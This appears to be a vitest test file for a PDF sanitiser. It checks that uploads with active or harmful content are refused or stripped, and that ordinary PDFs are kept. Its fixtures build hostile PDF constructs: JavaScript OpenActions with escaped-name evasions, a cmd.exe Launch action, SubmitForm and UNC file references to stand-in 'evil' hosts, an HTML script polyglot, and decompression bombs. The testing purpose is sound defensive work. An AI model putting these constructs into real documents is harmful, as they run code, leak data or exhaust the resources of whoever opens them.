import { once } from 'node:events';
import { createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import type { CallFailure } from '../base/failure.ts';
import { smallPdf } from '#server/sample/small-pdf.ts';
import { cleanPdf } from './clean-pdf.ts';

interface Parts {
  catalog?: string;
  page?: string;
  trailer?: string;
  objects?: readonly (string | Buffer)[];
}

/** A PDF of one page, with more in its catalog, page and trailer, and with more objects. */
function pdfOf({ catalog = '', page = '', trailer = '', objects = [] }: Parts = {}): Buffer {
  return Buffer.concat([
    Buffer.from(`%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${page} >> endobj\n`),
    ...objects.flatMap((object) => [Buffer.from(object), Buffer.from('\n')]),
    Buffer.from(`trailer << /Root 1 0 R ${trailer} >>\n%%EOF\n`),
  ]);
}

const streamOf = (number: number, dictionary: string, bytes: Buffer) =>
  Buffer.concat([
    Buffer.from(`${number} 0 obj << ${dictionary} /Length ${bytes.length} >> stream\n`),
    bytes,
    Buffer.from('\nendstream endobj'),
  ]);

/** Objects that are compressed together, as the text of each by its number. */
function packed(given: Readonly<Record<number, string>>, bytes = deflateSync): Buffer {
  const numbers = Object.keys(given);
  let body = '';
  const places = numbers.map((number) => {
    const place = `${number} ${body.length}`;
    body += `${given[Number(number)]} `;
    return place;
  });
  const head = `${places.join(' ')} `;
  const dictionary = `/Type /ObjStm /N ${numbers.length} /First ${head.length} /Filter /FlateDecode`;
  return streamOf(9, dictionary, bytes(Buffer.from(head + body)));
}

const outcome = async (bytes: Buffer) =>
  cleanPdf('file', bytes).then(
    () => 'kept',
    ({ status, messages }: CallFailure) => `${status} ${String(messages['file'])}`,
  );
const action = (text: string): Parts => ({ catalog: `/OpenAction << ${text} >>` });
const annotation = (text: string): Parts => ({
  page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${text} >>]`,
});
const program = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** specification 25.4 */
describe('a PDF with something active', () => {
  it.each<[string, Parts]>([
    ['a script', action('/S /JavaScript /JS (app.alert\\(1\\))')],
    ['a script with an escaped name', action('/S /J#61vaScript /J#53 (app.alert\\(1\\))')],
    [
      'a script whose kind is another object',
      { ...action('/S 5 0 R'), objects: ['5 0 obj /JavaScript endobj'] },
    ],
    ['a script for the document', { catalog: '/Names << /J#61vaScript << /Names [(a) 5 0 R] >> >>' }],
    ['a script in an object stream', { catalog: '/OpenAction 5 0 R', objects: [packed({ 5: program })] }],
    ['a script in an object stream with an escaped name', { objects: [packed({ 5: '<< /J#53 (x) >>' })] }],
    ['a script of a field', annotation(`/Subtype /Widget /AA << /K ${program} >>`)],
    ['a program to launch', action('/S /L#61unch /F (cmd.exe)')],
    ['a form to submit', action('/S /SubmitForm /F (https://evil.example)')],
    ['data to import', action('/S /ImportData /F (\\\\\\\\evil\\\\share)')],
    ['a file on another machine', action(String.raw`/S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit]`)],
    ['a file inside it to go to', action('/S /GoToE /T << >>')],
    ['files in it', { catalog: '/Names << /EmbeddedF#69les << /Names [] >> >>' }],
    ['a file in it', { objects: [streamOf(5, '/Type /EmbeddedF#69le', Buffer.from('x'))] }],
    ['an attached file', annotation('/Subtype /FileAttachment /FS << /F (x) >>')],
    ['a film', annotation('/Subtype /RichMedia')],
    ['a sound', action('/S /Rendition /OP 0')],
    ['a form with programs', { catalog: '/AcroForm << /Fields [] /XFA [] >>' }],
    ['a stream in another file', { objects: [streamOf(5, String.raw`/F (\\\\evil\\x)`, Buffer.from(''))] }],
    [
      'a page of another file',
      { objects: [streamOf(5, '/Subtype /Form /Ref << /F (x) >>', Buffer.from(''))] },
    ],
  ])('is refused with %s', async (_, parts) => {
    expect(await outcome(pdfOf(parts))).toBe('415 pdfActive');
  });

  it('loses the addresses of links', async () => {
    const link = '/A << /S /U#52I /U#52I (https://evil.example) >>';
    const bytes = await cleanPdf(
      'file',
      pdfOf({ ...annotation(`/Subtype /Link ${link}`), ...action('/S /URI /URI (x:)') }),
    );
    const { context } = await PDFDocument.load(bytes);
    const text = context.enumerateIndirectObjects().join('\n');
    expect(text).toContain('/Link');
    expect(text).not.toMatch(/URI|evil/);
  });

  it('keeps nothing that only another reader would find', async () => {
    const inside = Buffer.from(`7 0 obj ${program} endobj`);
    const shown = pdfOf({ catalog: '/OpenAction 7 0 R', objects: [streamOf(5, '', inside)] });
    // An index that points into the stream, and a page for a browser.
    const place = String(shown.indexOf('7 0 obj')).padStart(10, '0');
    const bytes = await cleanPdf(
      'file',
      Buffer.concat([
        shown,
        Buffer.from(
          `%<html><script>alert(1)</script>\nxref\n7 1\n${place} 00000 n \ntrailer << /Root 1 0 R >>\n%%EOF\n`,
        ),
      ]),
    );
    expect(bytes.toString('latin1')).not.toMatch(/JavaScript|<script>/);
    const { catalog, context } = await PDFDocument.load(bytes, { updateMetadata: false });
    expect(catalog.lookup(PDFName.of('OpenAction'))).toBeUndefined();
    expect(context.enumerateIndirectObjects().join()).not.toContain('JavaScript');
    const revised = pdfOf({ objects: [`5 0 obj ${program} endobj`, '5 0 obj << >> endobj'] });
    expect((await cleanPdf('file', revised)).toString('latin1')).not.toContain('JavaScript');
  });
});

describe('a PDF that can not be read', () => {
  const encrypted = '<< /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -4 >>';
  it.each<[string, Buffer, string]>([
    ['has a password', pdfOf({ trailer: `/Encr#79pt ${encrypted}` }), '400 pdfEncrypted'],
    [
      'has a password and object streams',
      pdfOf({
        trailer: `/Encrypt ${encrypted}`,
        objects: [packed({ 5: 'null' }, () => Buffer.from('secret'))],
      }),
      '400 pdfEncrypted',
    ],
    ['is cut off', smallPdf(['x']).subarray(0, 500), '400 pdfBroken'],
    [
      'has no page',
      Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF'),
      '400 pdfBroken',
    ],
    ['has half an object', pdfOf({ objects: ['5 0 obj << /A ( endobj'] }), '400 pdfBroken'],
    ['is no PDF', Buffer.from('%PDF-nonsense %%EOF'), '400 pdfBroken'],
    [
      'has pages within themselves',
      Buffer.from(pdfOf().toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1'),
      '400 pdfBroken',
    ],
    [
      'is nested two million times',
      pdfOf({ objects: [`5 0 obj ${'['.repeat(2_000_000)} endobj`] }),
      '400 pdfBroken',
    ],
  ])('is refused where it %s', async (_, bytes, refused) => {
    expect(await outcome(bytes)).toBe(refused);
  });
});

describe('a PDF that takes too much', () => {
  /** So many equal bytes, compressed without being in memory. */
  async function bomb(size: number): Promise<Buffer> {
    const deflate = createDeflate({ level: 1 });
    const parts: Buffer[] = [];
    deflate.on('data', (part: Buffer) => parts.push(part));
    deflate.write('5 0 ');
    const chunk = Buffer.alloc(2 ** 24, 32);
    for (let at = 0; at < size; at += chunk.length) if (!deflate.write(chunk)) await once(deflate, 'drain');
    deflate.end();
    await once(deflate, 'end');
    return streamOf(9, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.concat(parts));
  }

  it.each<[string, () => Parts | Promise<Parts>]>([
    ['a quarter of a gigabyte in one megabyte', async () => ({ objects: [await bomb(2 ** 28)] })],
    ['millions of numbers', () => ({ objects: [packed({ 5: `[${'1 '.repeat(12_000_000)}]` })] })],
    [
      'three hundred thousand objects',
      () => ({
        objects: [packed(Object.fromEntries(Array.from({ length: 300_000 }, (_, at) => [at + 10, '1'])))],
      }),
    ],
  ])('is refused with %s, while others are answered', async (_, parts) => {
    const bytes = pdfOf(await parts());
    const before = process.memoryUsage().rss;
    let most = before;
    let turns = 0;
    const began = performance.now();
    const watching = setInterval(() => {
      turns += 1;
      most = Math.max(most, process.memoryUsage().rss);
    }, 20);
    expect(await outcome(bytes)).toBe('413 pdfTooComplex');
    clearInterval(watching);
    const possible = (performance.now() - began) / 20;
    expect(most - before).toBeLessThan(600 * 2 ** 20);
    expect(turns).toBeGreaterThan(possible / 4);
    expect(await outcome(pdfOf())).toBe('kept');
  });
});

describe('an ordinary PDF', () => {
  it('is kept with its pages and texts', async () => {
    const bytes = await cleanPdf('file', smallPdf(['Electricity bill']));
    expect((await PDFDocument.load(bytes)).getPageCount()).toBe(1);
    expect(bytes.toString('latin1')).toContain('(Electricity bill) Tj');
  });

  it('is kept with object streams, forms, outlines and former revisions', async () => {
    const made = await PDFDocument.create();
    for (let page = 0; page < 30; page += 1) made.addPage().drawText(`Page ${page}`);
    made.getForm().createTextField('name').addToPage(made.getPage(0));
    made.setTitle('A statement');
    const compressed = Buffer.from(await made.save());
    expect((await PDFDocument.load(await cleanPdf('file', compressed))).getTitle()).toBe('A statement');
    const updated = Buffer.concat([
      smallPdf(['First']),
      Buffer.from(
        '5 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Courier >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
      ),
    ]);
    const { context } = await PDFDocument.load(await cleanPdf('file', updated));
    expect(context.enumerateIndirectObjects().join()).toMatch(/Courier/);
    const within = action('/S /GoTo /D [3 0 R /Fit]');
    expect(
      await outcome(pdfOf({ ...within, ...annotation('/Subtype /Text /Contents (JavaScript /Launch)') })),
    ).toBe('kept');
  });
});
